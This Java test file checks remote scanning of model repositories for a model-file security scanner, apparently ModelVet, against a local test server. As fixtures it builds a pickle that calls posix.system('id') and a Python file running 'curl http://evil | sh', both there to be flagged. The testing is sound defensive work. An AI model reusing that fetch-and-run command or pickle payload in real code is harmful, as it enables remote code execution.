package io.modelvet.remote;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.modelvet.ModelVet;
import io.modelvet.bench.SparseFixtures;
import io.modelvet.engine.ScanEngine;
import io.modelvet.engine.ScanOptions;
import io.modelvet.engine.ScannerRegistry;
import io.modelvet.report.FileResult;
import io.modelvet.report.Finding;
import io.modelvet.report.ScanReport;
import io.modelvet.report.Severity;
import io.modelvet.report.Verdict;
import io.modelvet.testutil.HubTestServer;
import io.modelvet.testutil.SharedCorpus;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Remote scanning against a real HTTP server on 127.0.0.1 that plays the Hub. */
class RemoteScanTest {
  static final String COMMIT = "0123456789abcdef0123456789abcdef01234567";
  static final long TEN_GB = 10_000_000_000L;
  /** posix.system('id') as a protocol-2 pickle. */
  static final byte[] EVIL_PICKLE = pickle("posix", "system", "id");

  @TempDir static Path tmp;
  static HubTestServer server;
  static Path torchZip;
  static Path safetensors;

  @BeforeAll
  static void start() throws IOException {
    server = new HubTestServer();
    torchZip = SparseFixtures.torchZip(tmp.resolve("big.pt"), EVIL_PICKLE, TEN_GB);
    safetensors = SparseFixtures.sparseSafetensors(tmp.resolve("big.safetensors"));
    Files.writeString(tmp.resolve("README.md"), "# big models\n");
    server.repo("big/models", COMMIT, false).addFolder(tmp);
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  @BeforeEach
  void reset() {
    server.clearServed();
    server.ignoreRange = false;
    server.truncateAfter = -1;
    server.lieAboutTotal = -1;
    server.tooManyRequests.set(0);
  }

  static RemoteSettings settings() {
    return RemoteSettings.defaults()
        .withEndpoint(server.endpoint())
        .withToken(HubToken.none())
        .withTimeouts(Duration.ofSeconds(5), Duration.ofSeconds(3), Duration.ofSeconds(60))
        .withRetries(2, Duration.ofSeconds(2))
        .withMaxConnections(4);
  }

  static ScanReport remote(RemoteSettings s, String... locations) throws IOException {
    return new RemoteScan(ScanOptions.defaults().withThreads(2), s, RemoteFilter.all()).scan(List.of(locations), null);
  }

  static ScanReport remote(String... locations) throws IOException {
    return remote(settings(), locations);
  }

  static ScanReport local(Path... paths) throws IOException {
    return new ScanEngine(ScannerRegistry.defaults(), ScanOptions.defaults().withThreads(2)).scan(List.of(paths), null);
  }

  @Test
  void tenGigabyteTorchZipAndSafetensorsCostLessThanOneMegabyteEachWithTheLocalFindings() throws IOException {
    ScanReport r = remote("hf://big/models");
    ScanReport l = local(tmp);
    assertThat(comparable(r, "hf://big/models@" + COMMIT + "/")).isEqualTo(comparable(l, tmp + "/"));

    FileResult zip = top(r, "big.pt");
    assertThat(zip.size()).isGreaterThan(TEN_GB);
    assertThat(zip.format()).isEqualTo("pytorch-zip");
    assertThat(r.files()).anySatisfy(f -> assertThat(f.findings()).anySatisfy(x -> {
      assertThat(x.ruleId()).isEqualTo("pickle.denied-callable");
      assertThat(x.severity()).isEqualTo(Severity.CRITICAL);
    }));
    assertThat(zip.bytesFetched()).isBetween(1L, 1L << 20);
    assertThat(server.bytesServed("big.pt")).isLessThan(1L << 20);

    FileResult st = top(r, "big.safetensors");
    assertThat(st.format()).isEqualTo("safetensors");
    assertThat(st.verdict()).isEqualTo(Verdict.CLEAN);
    assertThat(st.bytesFetched()).isBetween(1L, 1L << 20);
    assertThat(server.bytesServed("big.safetensors")).isLessThan(1L << 20);
    System.out.printf("10 GB torch zip: %d bytes fetched; 10 GB safetensors: %d bytes fetched%n", zip.bytesFetched(), st.bytesFetched());
  }

  @Test
  void largeFilesAreRedirectedToTheOtherHostWithoutTheToken() throws IOException {
    server.repo("org/private", COMMIT, true).add("model.safetensors", new io.modelvet.io.FileByteSource(safetensors));
    assertThatThrownBy(() -> remote("hf://org/private"))
        .isInstanceOf(RemoteAccessException.class)
        .hasMessageContaining("hf://org/private: authentication required (HTTP 401)")
        .satisfies(e -> assertThat(((RemoteAccessException) e).status()).isEqualTo(401));
    server.clearServed();

    ScanReport r = remote(settings().withToken(HubToken.of(HubTestServer.TOKEN)), "hf://org/private");
    assertThat(r.files()).singleElement().satisfies(f -> {
      assertThat(f.path()).isEqualTo("hf://org/private@" + COMMIT + "/model.safetensors");
      assertThat(f.verdict()).isEqualTo(Verdict.CLEAN);
    });
    List<HubTestServer.Served> cdn = server.served().stream().filter(s -> s.path().startsWith("/cdn/")).toList();
    List<HubTestServer.Served> hub = server.served().stream().filter(s -> !s.path().startsWith("/cdn/")).toList();
    assertThat(cdn).isNotEmpty().allSatisfy(s -> {
      assertThat(s.host()).startsWith("localhost:");
      assertThat(s.authorized()).isFalse();
    });
    assertThat(hub).isNotEmpty().allSatisfy(s -> {
      assertThat(s.host()).startsWith("127.0.0.1:");
      assertThat(s.authorized()).isTrue();
    });
  }

  @Test
  void missingRepositoryRevisionOrFileIsAOneLineError() {
    assertThatThrownBy(() -> remote("hf://nobody/nothing")).isInstanceOf(RemoteAccessException.class).hasMessageNotContaining("\n");
    assertThatThrownBy(() -> remote("hf://big/models@v9"))
        .isInstanceOf(RemoteAccessException.class)
        .hasMessage("hf://big/models@v9: not found (HTTP 404, RevisionNotFound)");
    assertThatThrownBy(() -> remote(server.endpoint() + "/big/models/resolve/main/nope.bin"))
        .isInstanceOf(RemoteAccessException.class)
        .hasMessageContaining("not found");
    assertThatThrownBy(() -> remote("http://localhost:" + server.port() + "/cdn/nope"))
        .isInstanceOf(RemoteAccessException.class)
        .hasMessageContaining("not found (HTTP 404)");
  }

  @Test
  void webFormsNameTheSameFiles() throws IOException {
    ScanReport file = remote(server.endpoint() + "/big/models/resolve/main/big.safetensors");
    assertThat(file.files()).singleElement().satisfies(f -> assertThat(f.path()).isEqualTo("hf://big/models@" + COMMIT + "/big.safetensors"));
    ScanReport tree = remote(server.endpoint() + "/big/models/tree/" + COMMIT);
    assertThat(tree.files().stream().filter(f -> !f.path().contains("!/")).map(FileResult::path))
        .containsExactly("hf://big/models@" + COMMIT + "/README.md", "hf://big/models@" + COMMIT + "/big.pt", "hf://big/models@" + COMMIT + "/big.safetensors");
    String cdn = "http://localhost:" + server.port() + "/cdn/big/models/" + COMMIT + "/big.safetensors";
    ScanReport plain = remote(cdn + "?signature=secret");
    assertThat(plain.files()).singleElement().satisfies(f -> {
      assertThat(f.path()).isEqualTo(cdn);
      assertThat(f.format()).isEqualTo("safetensors");
    });
  }

  @Test
  void includeAndExcludeGlobsSelectRepositoryFiles() throws IOException {
    ScanReport r = new RemoteScan(ScanOptions.defaults().withThreads(2), settings(), new RemoteFilter(List.of("*.safetensors", "*.md"), List.of("p.*"))).scan(List.of("hf://big/models"), null);
    assertThat(r.files().stream().map(FileResult::path))
        .containsExactly("hf://big/models@" + COMMIT + "/README.md", "hf://big/models@" + COMMIT + "/big.safetensors");
    assertThatThrownBy(() -> new RemoteScan(ScanOptions.defaults(), settings(), new RemoteFilter(List.of("*.gguf"), List.of())).scan(List.of("hf://big/models"), null))
        .isInstanceOf(RemoteAccessException.class)
        .hasMessage("hf://big/models@" + COMMIT + ": no file of the repository matches --include/--exclude");
  }

  @Test
  void rateLimitedRequestsAreRetriedAfterRetryAfter() throws IOException {
    server.tooManyRequests.set(2);
    long t0 = System.nanoTime();
    ScanReport r = remote(server.endpoint() + "/big/models/resolve/main/README.md");
    assertThat((System.nanoTime() - t0) / 1_000_000).isGreaterThanOrEqualTo(1900);
    assertThat(server.served().stream().filter(s -> s.status() == 429)).hasSize(2);
    assertThat(r.files()).singleElement().satisfies(f -> assertThat(f.verdict()).isNotEqualTo(Verdict.INCONCLUSIVE));
  }

  @Test
  void aServerIgnoringRangeIsCutOffAndFarOffsetsBecomeInconclusive() throws IOException {
    server.ignoreRange = true;
    ScanReport r = remote("hf://big/models");
    // The safetensors header is at the start, and it is all the safetensors scanner reads (as on
    // disk): the file gets its verdict from the first bytes of the body, and little is downloaded.
    // (Sniffers that read a file's end, such as the TF checkpoint table's, are not asked once a
    // format has claimed the file with a score they cannot reach.)
    FileResult st = top(r, "big.safetensors");
    assertThat(st.format()).isEqualTo("safetensors");
    assertThat(st.verdict()).isEqualTo(Verdict.CLEAN);
    assertThat(st.bytesFetched()).isLessThan(8L << 20);
    // A zip's directory is at its end, out of reach without Range: inconclusive, never clean.
    FileResult zip = top(r, "big.pt");
    assertThat(zip.verdict()).isEqualTo(Verdict.INCONCLUSIVE);
    assertThat(zip.inconclusiveReason()).contains("ignores Range");
    assertThat(top(r, "README.md").verdict()).isEqualTo(Verdict.CLEAN);
    // the server wrote little of the 10 GB bodies before the client hung up
    assertThat(server.bytesServed()).isLessThan(256L << 20);
  }

  @Test
  void truncatedBodiesAndLyingSizesAreInconclusiveNeverClean() throws IOException {
    server.truncateAfter = 5;
    ScanReport r = remote("hf://big/models");
    assertThat(r.files().stream().filter(f -> !f.path().contains("!/"))).allSatisfy(f -> {
      assertThat(f.verdict()).isEqualTo(Verdict.INCONCLUSIVE);
      assertThat(f.inconclusiveReason()).containsAnyOf("truncated", "connection", "fetched");
    });

    server.truncateAfter = -1;
    server.lieAboutTotal = 123;
    ScanReport lying = remote("hf://big/models");
    assertThat(lying.files().stream().filter(f -> !f.path().contains("!/"))).allSatisfy(f -> assertThat(f.verdict()).isEqualTo(Verdict.INCONCLUSIVE));

    server.lieAboutTotal = -1;
    server.repos.get("big/models").listedSizes.put("README.md", 5L);
    try {
      FileResult readme = top(remote("hf://big/models"), "README.md");
      assertThat(readme.verdict()).isEqualTo(Verdict.INCONCLUSIVE);
      assertThat(readme.inconclusiveReason()).contains("the listing says 5 bytes");
    } finally {
      server.repos.get("big/models").listedSizes.clear();
    }
  }

  @Test
  void remoteCodeNamedByAutoMapIsCheckedInTheRepositoryAsInAFolder(@TempDir Path dir) throws IOException {
    Files.writeString(dir.resolve("config.json"), "{\"model_type\":\"x\",\"architectures\":[\"X\"],\"auto_map\":{\"AutoModel\":\"modeling_x.XModel\",\"AutoConfig\":\"configuration_x.XConfig\"}}");
    Files.writeString(dir.resolve("modeling_x.py"), "import os\nos.system('curl http://evil | sh')\nclass XModel: pass\n");
    server.repo("code/repo", COMMIT, false).addFolder(dir);
    ScanReport r = remote("hf://code/repo");
    ScanReport l = local(dir);
    assertThat(comparable(r, "hf://code/repo@" + COMMIT + "/")).isEqualTo(comparable(l, dir + "/"));
    List<Finding> config = top(r, "config.json").findings();
    assertThat(config).anySatisfy(x -> {
      assertThat(x.ruleId()).isEqualTo("hf.remote-code-dangerous");
      assertThat(x.severity()).isGreaterThanOrEqualTo(Severity.HIGH);
    });
    assertThat(config).anySatisfy(x -> assertThat(x.ruleId()).isEqualTo("hf.remote-code-missing"));
  }

  @Test
  void graphFixturesWithNeighbourChecksGiveTheSameFindingsRemotely() throws IOException {
    // ONNX external data next to (or below) the model, TensorFlow SavedModel folders and checkpoints
    Path graph = io.modelvet.formats.graph.GraphFixtures.fixture("");
    server.repo("graph/fixtures", COMMIT, false).addFolder(graph);
    Map<String, String> remote = comparable(remote("hf://graph/fixtures"), "hf://graph/fixtures@" + COMMIT + "/");
    Map<String, String> local = comparable(local(graph), graph + "/");
    assertThat(remote).isEqualTo(local);
    assertThat(remote).anySatisfy((path, result) -> {
      assertThat(path).isEqualTo("onnx/external_ok/weights.bin");
      assertThat(result).startsWith("CLEAN onnx-external-data");
    });
    assertThat(remote.get("onnx/suspicious/external_range/model.onnx")).contains("onnx.external-data-out-of-range");
  }

  @Test
  void everyPeerCorpusFileGivesTheSameFindingsRemotelyAsLocally() throws IOException {
    Path peers = SharedCorpus.root().map(c -> c.resolve("peers")).filter(Files::isDirectory).orElse(null);
    assumeTrue(peers != null, "shared corpus not present");
    server.repo("peers/corpus", COMMIT, false).addFolder(peers);
    ScanReport r = remote("hf://peers/corpus");
    ScanReport l = local(peers);
    Map<String, String> remote = comparable(r, "hf://peers/corpus@" + COMMIT + "/");
    Map<String, String> local = comparable(l, peers + "/");
    assertThat(remote.keySet()).isEqualTo(local.keySet());
    assertThat(remote).isEqualTo(local);
    long size = r.files().stream().filter(f -> f.bytesFetched() >= 0).mapToLong(FileResult::size).sum();
    System.out.printf("peer corpus: %d files, %d bytes, %d bytes fetched%n", r.files().stream().filter(f -> f.bytesFetched() >= 0).count(), size, r.bytesFetched());
  }

  @Test
  void libraryEntryPointTakesUris() throws IOException {
    ScanReport r = ModelVet.scanner().scan(settings(), RemoteFilter.all(), List.of(URI.create("hf://big/models"), tmp.resolve("big.safetensors").toUri()));
    assertThat(r.files().stream().filter(f -> f.path().endsWith("big.safetensors")).map(FileResult::verdict)).containsExactly(Verdict.CLEAN, Verdict.CLEAN);
    assertThat(r.bytesFetched()).isPositive();
  }

  private static FileResult top(ScanReport r, String name) {
    return r.files().stream().filter(f -> f.path().endsWith("/" + name)).findFirst().orElseThrow();
  }

  /** Per relative path: verdict, format, reason and findings without their path prefix. */
  static Map<String, String> comparable(ScanReport r, String prefix) {
    Map<String, String> out = new TreeMap<>();
    for (FileResult f : r.files()) {
      String rel = f.path().startsWith(prefix) ? f.path().substring(prefix.length()) : f.path();
      String findings = f.findings().stream().map(x -> x.ruleId() + " " + x.severity() + " @" + x.location().offset() + " " + x.location().detail() + " " + x.evidence()).collect(Collectors.joining("\n  "));
      out.put(rel, f.verdict() + " " + f.format() + " " + f.size() + " " + f.inconclusiveReason() + "\n  " + findings);
    }
    return out;
  }

  static byte[] pickle(String module, String name, String arg) {
    java.io.ByteArrayOutputStream b = new java.io.ByteArrayOutputStream();
    b.write(0x80);
    b.write(2);
    b.writeBytes(("c" + module + "\n" + name + "\n").getBytes(StandardCharsets.US_ASCII));
    byte[] a = arg.getBytes(StandardCharsets.UTF_8);
    b.write('X');
    b.writeBytes(new byte[] {(byte) a.length, 0, 0, 0});
    b.writeBytes(a);
    b.write(0x85);
    b.write('R');
    b.write('.');
    return b.toByteArray();
  }
}
